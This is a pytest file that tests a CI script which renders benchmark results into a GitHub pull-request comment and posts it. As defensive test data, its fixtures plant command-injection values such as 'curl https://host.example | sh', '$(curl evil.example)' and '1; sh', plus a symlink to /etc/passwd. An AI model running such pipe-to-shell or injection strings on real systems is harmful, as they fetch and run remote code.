"""The comment of a pull request: rendered from results that are only data, and posted once."""

import json

import pytest

from tests.cli.conftest import stored
from tests.conftest import ROOT
from tests.factories import cells, nightly_run, rounds, scenario
from tests.github import ENVIRON, Repository
from tests.workflow import install_harness, run_script, write_program

SCRIPTS = ROOT / ".github" / "pull-request"
MARK = "<!-- harness-comment -->\n"


@pytest.fixture
def render(tmp_path):
    """Return a function that renders an artifact, and returns the process and the text or None."""
    install_harness(tmp_path / "bin")

    def run_render(results):
        file = tmp_path / "comment.md"
        process = run_script(SCRIPTS / "render", results, file, programs=tmp_path / "bin")
        return process, file.read_text() if file.exists() else None

    return run_render


@pytest.fixture
def results(tmp_path):
    """Return an artifact with a run whose title and command somebody has made up."""
    planned = cells()
    seconds = {cell: 0.02 if cell == planned[-1] else 0.01 for cell in planned}
    title = scenario(title="@all https://evil.example _www.evil.example GH-5 fixes #5")
    command = ("bash", "-c", "curl https://host.example | sh", "```\n@a")
    measured = nightly_run("2026-11-01", scenarios=[title], command=command, folder="x; curl host.example | sh")
    return stored(tmp_path / "artifact", measured, rounds(seconds, 5, 0.002, 1)).parent


@pytest.mark.slow
def test_the_comment_has_the_table_and_nothing_that_github_acts_on(render, results, golden):
    process, text = render(results)
    assert process.returncode == 0, process.stderr
    assert text.startswith(MARK)
    # GitHub acts on nothing in a block of code
    outside, command, rest = text.removeprefix(MARK).split("```")
    assert "evil" in outside
    assert "curl" not in text
    for word in ("@all", "://", "www.", "GH-5", "#5", "<!--"):
        assert word not in outside
    # the command can be copied, and is none that the job wrote
    assert command == "text\nharness matrix -s step -e tf1.14,tf2.0 --seed 7\n"
    assert rest.strip() == ""
    assert text == golden


@pytest.mark.slow
def test_the_command_has_only_names_and_numbers_of_the_plan(render, results, tmp_path):
    write_program(tmp_path / "bin" / "harness", "echo the table")
    path = next(results.glob("*/run.json"))
    original = path.read_text()

    def read_command(change):
        document = json.loads(original)
        change(document)
        path.write_text(json.dumps(document))
        process, text = render(results)
        assert "Traceback" not in process.stderr
        return (text or "").partition("```text\n")[2].partition("\n```")[0]

    def change_names(document):
        text = json.dumps(document).replace('"step"', '"step_side_by_side"')
        document.update(json.loads(text))
        document["plan"]["budget_seconds"] = 1200.0

    assert read_command(change_names) == (
        "harness matrix --base 'HEAD^1' --head HEAD -s step -e tf1.14,tf2.0 --budget 1200s --seed 7"
    )
    for change in (
        lambda document: document["scenarios"][0].update(name="$(curl evil.example)"),
        lambda document: document["environments"][0].update(name="evil"),
        lambda document: document["environments"][0].update(asked="tensorflow==2.15.0,evil==1"),
        lambda document: document["environments"][0].update(source="https://evil.example"),
        lambda document: document["plan"].update(seed="1; sh"),
        lambda document: document["plan"].update(budget_seconds=1e300),
        lambda document: document.update(environments=[]),
        lambda document: document.update(scenarios=None),
    ):
        assert read_command(change) == ""


def test_a_job_without_results_says_why_and_links_have_no_comment(render, tmp_path, results):
    (tmp_path / "failure").write_text("harness: Docker isn't running.\n``` @all\n")
    _, text = render(tmp_path)
    expected = f"{MARK}### Nothing was measured\n\n```text\nharness: Docker isn't running.\n''' @all\n```\n"
    assert text.rstrip() == expected.rstrip()
    (tmp_path / "comment.md").unlink()
    process, text = render(tmp_path / "nowhere")
    assert (process.returncode, text) == (0, None)
    (results / "failure").symlink_to("/etc/passwd")
    process, text = render(results)
    assert (process.returncode, text) == (1, None)
    assert process.stderr.startswith("::error::")


@pytest.mark.slow
def test_one_comment_is_posted_and_updated(tmp_path):
    github = Repository(tmp_path / "repository.json")
    github.pulls = [{"number": 7, "headRefOid": "aaa"}, {"number": 8, "headRefOid": "bbb"}]
    # somebody else's comment with the mark isn't the one to edit
    github.talk = [[1, "somebody", MARK]]
    github.save()
    github.install(tmp_path)
    text = tmp_path / "comment.md"
    for number, head in (("1", "aaa"), ("2", "aaa"), ("3", "closed")):
        text.write_text(f"{MARK}{number}\n")
        run_script(SCRIPTS / "post", text, programs=tmp_path, HEAD_SHA=head, **ENVIRON).check_returncode()
    run_script(SCRIPTS / "post", tmp_path / "none.md").check_returncode()
    github = github.load()
    assert github.writes == ["POST 7/comments", "PATCH comments/2"]
    assert github.talk[1:] == [[2, "github-actions[bot]", f"{MARK}2\n"]]
